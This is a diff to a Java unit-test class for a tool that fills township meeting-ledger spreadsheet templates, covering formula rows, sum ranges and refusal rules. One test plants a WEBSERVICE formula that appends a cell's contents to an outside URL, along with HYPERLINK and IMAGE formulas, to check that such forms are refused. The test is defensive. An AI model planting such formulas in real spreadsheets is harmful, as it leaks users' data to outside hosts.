@@ -19,6 +19,7 @@ import java.io.IOException;
 import java.io.OutputStream;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.nio.file.StandardCopyOption;
 import java.time.Clock;
 import java.time.Instant;
 import java.time.ZoneId;
@@ -33,6 +34,7 @@ import org.apache.poi.ss.usermodel.BorderStyle;
 import org.apache.poi.ss.usermodel.Cell;
 import org.apache.poi.ss.usermodel.CellStyle;
 import org.apache.poi.ss.usermodel.DateUtil;
+import org.apache.poi.ss.usermodel.FillPatternType;
 import org.apache.poi.ss.usermodel.Font;
 import org.apache.poi.ss.usermodel.Row;
 import org.apache.poi.ss.usermodel.Sheet;
@@ -146,7 +148,7 @@ class TownshipFormTest {
     assertThat(ledgers.deeds).singleElement().matches(d -> d.action().equals("保存套表"));
     Path target = folder.resolve("填好" + name);
     long rows = ledgers.forms.fill(preset, MEETINGS, target, Progress.NONE);
-    assertThat(rows).isEqualTo(4);
+    assertThat(rows).isEqualTo(3);
     assertThat(ledgers.forms.fileName(preset)).startsWith("高村乡会议表.xls");
 
     try (Workbook before = WorkbookFactory.create(file.toFile(), null, true);
@@ -170,16 +172,16 @@ class TownshipFormTest {
               .isEqualTo(cell.toString());
         }
       }
-      assertThat(is.getRow(8).getCell(0).getStringCellValue()).isEqualTo("合计");
-      assertThat(is.getRow(8).getCell(4).getCellFormula()).isEqualTo("SUM(E5:E8)");
+      assertThat(is.getRow(7).getCell(0).getStringCellValue()).isEqualTo("合计");
+      assertThat(is.getRow(7).getCell(4).getCellFormula()).isEqualTo("SUM(E5:E7)");
       double present = 0;
-      for (int r = 4; r < 8; r++) {
+      for (int r = 4; r < 7; r++) {
         present += is.getRow(r).getCell(4).getNumericCellValue();
       }
-      assertThat(is.getRow(8).getCell(4).getNumericCellValue()).isEqualTo(present);
-      assertThat(is.getRow(9).getCell(0).getStringCellValue()).startsWith("填表人");
+      assertThat(is.getRow(7).getCell(4).getNumericCellValue()).isEqualTo(present);
+      assertThat(is.getRow(8).getCell(0).getStringCellValue()).startsWith("填表人");
       assertThat(is.getMergedRegions())
-          .contains(new CellRangeAddress(0, 0, 0, 8), new CellRangeAddress(9, 9, 0, 8));
+          .contains(new CellRangeAddress(0, 0, 0, 8), new CellRangeAddress(8, 8, 0, 8));
       assertThat(is.getColumnWidth(1)).isEqualTo(7777);
     }
   }
@@ -275,5 +277,127 @@ class TownshipFormTest {
     assertThat(ledgers.forms.presets(LedgerKind.MEETINGS))
         .singleElement()
         .matches(p -> p.columns().size() == 1);
+  }
+
+  /** Heads in one row, merged over two; rows that reckon; a sum below, above and elsewhere. */
+  private Path reckoning(String name, boolean merged) throws IOException {
+    try (Workbook book = name.endsWith("s") ? new HSSFWorkbook() : new XSSFWorkbook()) {
+      Sheet sheet = book.createSheet("会议");
+      text(sheet, 0, 0, "会议统计").getRow().createCell(5).setCellFormula("SUM(D4:D5)");
+      List<String> heads = List.of("序号", "事项编号", "会议日期", "应到", "实到", "到会", "补录标记");
+      for (int i = 0; i < heads.size(); i++) {
+        text(sheet, 1, i, heads.get(i));
+        if (merged) {
+          sheet.addMergedRegion(new CellRangeAddress(1, 2, i, i));
+        }
+      }
+      if (merged) {
+        text(sheet, 1, 7, "其他");
+        text(sheet, 2, 7, "备用一");
+      }
+      for (int r = merged ? 3 : 2; r < 5; r++) {
+        Row row = sheet.createRow(r);
+        row.createCell(0).setCellFormula("ROW()-3");
+        row.createCell(5).setCellFormula("IF(D%1$d=0,\"\",E%1$d/D%1$d)".formatted(r + 1));
+      }
+      text(sheet, 5, 0, "合计");
+      sheet.getRow(5).createCell(3).setCellFormula("SUM(D%d:D5)".formatted(merged ? 4 : 3));
+      Sheet other = book.createSheet("汇总");
+      other.createRow(0).createCell(0).setCellFormula("SUM(会议!D%d:D5)".formatted(merged ? 4 : 3));
+      other.createRow(1).createCell(0).setCellFormula("SUM(D4:D5)");
+      Path file = folder.resolve(name);
+      try (OutputStream out = Files.newOutputStream(file)) {
+        book.write(out);
+      }
+      return file;
+    }
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"算.xlsx", "算.xls"})
+  void rows_that_reckon_are_used_and_every_sum_takes_in_what_was_filled(String name)
+      throws IOException {
+    Path file = reckoning(name, true);
+    FormMatch match = ledgers.forms.recognise(file, LedgerKind.MEETINGS);
+    assertThat(match.headRow()).as("the heads end where their merged cells do").isEqualTo(2);
+    Map<Integer, String> columns = new java.util.HashMap<>(match.columns());
+    assertThat(columns).containsEntry(6, "补录");
+    columns.remove(0);
+    columns.remove(5);
+    FormPreset preset = ledgers.forms.keep(match, columns, "算", file);
+    Path target = folder.resolve("填好" + name);
+    assertThat(ledgers.forms.fill(preset, MEETINGS, target, Progress.NONE)).isEqualTo(3);
+    try (Workbook after = WorkbookFactory.create(target.toFile(), null, true)) {
+      Sheet is = after.getSheet("会议");
+      double due = 0;
+      for (int r = 3; r < 6; r++) {
+        Row row = is.getRow(r);
+        due += row.getCell(3).getNumericCellValue();
+        assertThat(row.getCell(0).getCellFormula()).isEqualTo("ROW()-3");
+        assertThat(row.getCell(0).getNumericCellValue()).isEqualTo(r - 2);
+        assertThat(row.getCell(5).getCellFormula())
+            .isEqualTo("IF(D%1$d=0,\"\",E%1$d/D%1$d)".formatted(r + 1));
+      }
+      assertThat(due).isPositive();
+      assertThat(is.getRow(6).getCell(0).getStringCellValue()).isEqualTo("合计");
+      assertThat(is.getRow(6).getCell(3).getCellFormula()).isEqualTo("SUM(D4:D6)");
+      assertThat(is.getRow(6).getCell(3).getNumericCellValue()).isEqualTo(due);
+      assertThat(is.getRow(0).getCell(5).getNumericCellValue()).isEqualTo(due);
+      Sheet other = after.getSheet("汇总");
+      assertThat(other.getRow(0).getCell(0).getNumericCellValue()).isEqualTo(due);
+      assertThat(other.getRow(1).getCell(0).getCellFormula()).isEqualTo("SUM(D4:D5)");
+      assertThat(other.getForceFormulaRecalculation()).isTrue();
+      assertThat(is.getRow(3).getCell(6).getStringCellValue()).startsWith("补录：");
+      assertThat(is.getRow(3).getCell(6).getCellStyle().getFillPattern())
+          .isEqualTo(FillPatternType.SOLID_FOREGROUND);
+      assertThat(is.getRow(5).getCell(6).getCellStyle().getFillPattern())
+          .isEqualTo(FillPatternType.NO_FILL);
+    }
+  }
+
+  @Test
+  void a_form_that_fetches_or_that_changed_meanwhile_is_refused() throws IOException {
+    for (String formula :
+        List.of(
+            "WEBSERVICE(\"http://a.cn/\"&B3)", "HYPERLINK(\"https://a.cn\",\"看\")", "IMAGE(A1)")) {
+      Path file = folder.resolve("取.xlsx");
+      try (XSSFWorkbook book = new XSSFWorkbook()) {
+        form(book, "取.xlsx");
+        Cell cell = book.getSheetAt(0).getRow(0).createCell(20);
+        cell.setCellFormula("1+1");
+        ((org.apache.poi.xssf.usermodel.XSSFCell) cell).getCTCell().getF().setStringValue(formula);
+        try (OutputStream out = Files.newOutputStream(file)) {
+          book.write(out);
+        }
+      }
+      refused(file, "从网上");
+    }
+    Path file = reckoning("算.xlsx", true);
+    FormMatch match = ledgers.forms.recognise(file, LedgerKind.MEETINGS);
+    Files.copy(folder.resolve("取.xlsx"), file, StandardCopyOption.REPLACE_EXISTING);
+    assertThatThrownBy(() -> ledgers.forms.keep(match, match.columns(), "算", file))
+        .isInstanceOfSatisfying(
+            Refused.class, no -> assertThat(no.sentences().getFirst()).contains("改过"));
+    assertThat(ledgers.presets).isEmpty();
+  }
+
+  @Test
+  void a_name_stays_with_its_ledger_and_a_filled_form_has_no_password() throws IOException {
+    Path file = reckoning("算.xlsx", true);
+    FormMatch match = ledgers.forms.recognise(file, LedgerKind.MEETINGS);
+    FormPreset preset = ledgers.forms.keep(match, match.columns(), "算", file);
+    FormMatch matters = ledgers.forms.recognise(file, LedgerKind.MATTERS);
+    assertThatThrownBy(() -> ledgers.forms.keep(matters, matters.columns(), "算", file))
+        .isInstanceOfSatisfying(
+            RuleViolation.class, no -> assertThat(no.sentences().getFirst()).contains("已经用于会议台账"));
+    assertThat(ledgers.presets).containsExactly(preset);
+    assertThatThrownBy(() ->
+            ledgers.forms.fill(
+                preset,
+                new LedgerOrder(LedgerKind.MEETINGS, LedgerFilter.ALL, true, "核对", "1"),
+                folder.resolve("密.xlsx"),
+                Progress.NONE))
+        .isInstanceOf(RuleViolation.class);
+    assertThat(folder.resolve("密.xlsx")).doesNotExist();
   }
 }
